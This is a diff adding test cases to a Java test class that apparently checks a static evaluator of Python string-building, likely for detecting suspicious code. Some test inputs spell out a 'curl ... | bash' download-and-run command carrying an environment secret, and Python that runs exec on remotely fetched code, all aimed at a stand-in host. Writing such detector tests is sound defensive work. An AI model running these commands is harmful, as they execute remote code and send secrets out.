@@ -38,6 +38,8 @@ class PyEvaluatorTest {
                 // constants, operators, formatting
                 Arguments.of("sink('ex' + 'ec')", "exec", List.of()),
                 Arguments.of("sink('%s://%s/%d' % ('https', 'example.invalid', 7))", "https://example.invalid/7", List.of()),
+                Arguments.of("sink('%(s)s://%(h)s/%(n)03d%%' % {'s': 'https', 'h': 'example.invalid', 'n': 7})", "https://example.invalid/007%", List.of()),
+                Arguments.of("sink('%-4s|%5.2s|%#x|%+d|%*d|%o|%.3d' % ('ab', 'xyz', 255, 3, 4, 7, 8, -5))", "ab  |   xy|0xff|+3|   7|10|-005", List.of()),
                 Arguments.of("sink('{}://{host}/{0}'.format('https', host='example.invalid'))", "https://example.invalid/https", List.of()),
                 Arguments.of("h = 'example.invalid'\nsink(f'https://{h}/{1 + 1}')", "https://example.invalid/2", List.of()),
                 Arguments.of("sink('x' * 3 + str(2 ** 10))", "xxx1024", List.of()),
@@ -392,6 +394,8 @@ class PyEvaluatorTest {
     void percentFormattingKeepsKnownArgumentsInItsPiecesAndPythonCWithHolesIsAStage() {
         Value v = sunk("import socket\nsink('exec(get(%r, h=%r))' % ('https://example.invalid/x', socket.gethostname()))");
         assertThat(PyBuiltins.fragments(v)).containsExactly("exec(get('https://example.invalid/x', h=", "))");
+        Value mapped = sunk("import os\nsink('curl %(u)s | %(sh)s -s %(k)s' % {'u': 'https://example.invalid/i', 'sh': 'bash', 'k': os.environ['K']})");
+        assertThat(PyBuiltins.fragments(mapped)).containsExactly("curl https://example.invalid/i | bash -s ");
         PyModel model = evaluate("""
                 import socket, subprocess, sys
                 code = "import urllib.request as r;exec(r.urlopen(%r + %r).read())" % ('https://example.invalid/', socket.gethostname())
